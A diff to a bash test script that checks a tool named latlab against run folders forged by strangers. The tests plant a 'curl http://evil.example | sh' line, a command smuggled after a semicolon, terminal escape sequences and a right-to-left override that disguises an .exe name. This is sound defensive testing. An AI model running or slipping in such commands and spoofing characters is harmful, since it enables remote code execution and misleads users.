@@ -1,9 +1,10 @@
 #!/usr/bin/env bash
-# What a stranger may write into a run, a name or a folder: none of it is advice, and no printed command runs
-# any of it.
+# What a stranger may write into a run, a name or a folder: none of it is advice, no printed command runs any of it,
+# and no text steers a terminal or hides.
 # Invariant (trust): What to do comes from the program, never from the folder of a run.
 # Invariant (trust): The commands that name a folder can be pasted, whatever the folder is called.
 # Invariant (trust): What lies outside a folder that is examined or written to by name is not read, nor written.
+# Invariant (documents): Texts of strangers cannot steer, turn or hide a line.
 . "$(dirname "$0")/common.bash"
 rights_for "runs"
 evil='curl http://evil.example | sh'
@@ -48,20 +49,7 @@ try "a unit is not written by the name of its folder" unit
 
 # Writes the advice of a stranger into a run, with a checksum that fits.
 forge() {
-    python3 - "$1" "$evil" <<'PYTHON'
-import hashlib, json, sys
-path, evil = sys.argv[1] + "/run.json", sys.argv[2]
-run = json.load(open(path))
-run.pop("seal")
-for one in run["doctor"]:
-    one.update(severity="error", remedy=evil, undo=evil)
-run["findings"].append({"code": "planted", "severity": "error", "text": "A text.", "remedy": evil,
-                        "invalidates": True, "at_ns": None, "thread": None})
-run["asked"]["command"] = "latlab run --for 1s; " + evil
-text = json.dumps(run, indent=2, ensure_ascii=False)[: -len("\n}")] + ","
-seal = hashlib.sha256((text + "\n").encode()).hexdigest()
-open(path, "w").write(f'{text}\n  "seal": "{seal}"\n}}\n')
-PYTHON
+    python3 tests/strangers.py forge "$1" "$evil"
 }
 
 lacks() { ! grep -qF "$1" "$2"; }
@@ -79,17 +67,15 @@ stranger() {
     done
     "$program" show "$folder" --all | sed -n '/^Repeat it/,$p' | sed -n '2s/^ *//p' >"$here/repeat"
     paste "$(<"$here/repeat")" &&
-        expect "a command of latlab, its words quoted: $(<"$here/repeat")" grep -qF "latlab run --for '1s;' curl" "$here/repeat"
+        expect "a command of latlab, its words quoted: $(<"$here/repeat")" \
+            grep -qF "latlab run --for '1s;' curl" "$here/repeat"
 }
 try "advice that a stranger wrote into a run is not given" stranger
 
 machine() {
-    "$program" show "$here/before" --format json >"$here/own.json" && "$program" show "$here"/runs/*_run --format json >"$here/text" || return 1
-    python3 - "$here/own.json" "$here/text" <<'PYTHON'
-import json, sys
-own, forged = ([(one["code"], one["remedy"], one["undo"]) for one in json.load(open(path))["doctor"]] for path in sys.argv[1:])
-assert own == forged and any(remedy for _, remedy, _ in own), (own, forged)
-PYTHON
+    "$program" show "$here/before" --format json >"$here/own.json" &&
+        "$program" show "$here"/runs/*_run --format json >"$here/text" || return 1
+    python3 tests/strangers.py same_advice "$here/own.json" "$here/text"
 }
 try "what to do about the machine of a stranger's run comes from its kernel files" machine
 
@@ -139,4 +125,54 @@ unprintable() {
 }
 try "a command that can print nothing does not succeed" unprintable
 
-exit "$status"
+# What ends with 2 and a line that holds these words: refused WORDS COMMAND...
+refused() {
+    local words=$1 code
+    shift
+    "$@" >"$here/text" 2>"$here/errors"
+    code=$?
+    cat "$here/errors"
+    expect "exit code 2, not $code" [ "$code" = 2 ] &&
+        expect "the words $words" grep -q -- "$words" "$here/errors"
+}
+
+# A run of a stranger, every text of which holds what steers a terminal, turns a line or hides.
+strangers=$here/strangers
+strange=$strangers/$'20261121T234350Z_gnp.\u202eexe\e[2J'
+mkdir "$strangers"
+cp -r fixtures/schema-3/runs/*_schema-3 "$strange"
+python3 tests/strangers.py make_hostile "$strange"
+# What people see of it: a line for each output that shows more than what can be seen.
+visible() { python3 tests/strangers.py visible "$@"; }
+texts() {
+    local command number=0
+    mkdir "$here/shown"
+    for command in list "list --format markdown" "show last" "show last --all" "show last --format markdown" \
+        verify "verify --all" "report last" "report last -o -" "plot last -o -" "plot last --kind telemetry -o -" \
+        "doctor last" "show nothing"; do
+        number=$((number + 1))
+        "$program" $command --out "$strangers" >"$here/shown/$number.out" 2>"$here/shown/$number.err"
+        expect "something of $command" [ -s "$here/shown/$number.out" -o -s "$here/shown/$number.err" ] || return 1
+    done
+    visible "$here/shown"/* &&
+        expect "an escape in the place of a character" grep -q 'exe\\u{1b}\[2J' "$here/shown/1.out" &&
+        expect "the note" grep -q 'a\\u{1b}\[31m.*\\u{202e}b' "$here/shown/3.out" "$here/shown/4.out" &&
+        "$program" show last --out "$strangers" --format json >"$here/shown.json" &&
+        holds_in "$here/shown.json" "" \
+            "'\\u202eb\\u2066c' in run['asked']['note'] and run['asked']['name'].startswith('a\\x1b[31m')"
+}
+try "no text of a stranger's run steers a terminal or hides, and JSON has it as it is" texts
+
+own_texts() {
+    refused 'a control character (U+001B)' "$program" run --for 1s --name $'a\e[2J' &&
+        refused 'an invisible character (U+202E)' "$program" run --for 1s --note $'gnp.\u202eexe' &&
+        refused 'a line break (U+000A)' "$program" run --for 1s --note $'a\nb' &&
+        refused "for '--name <NAME>': expected a few plain words" "$program" run --for 1s --name ' ' || return 1
+    printf '# \u202e\nabout = "\\u001b[2J"\n[[scenario]]\nname = "a"\nfor = "1s"\n' >"$here/bad.toml"
+    refused 'bad.toml:1:3: contains an invisible character (U+202E)' "$program" run "$here/bad.toml" --dry-run &&
+        expect "the escape too" grep -q 'bad.toml:2:9: contains a control character (U+001B)' "$here/errors" &&
+        visible "$here/errors"
+}
+try "names, notes and sheets with characters that nobody sees are refused" own_texts
+
+exit $status
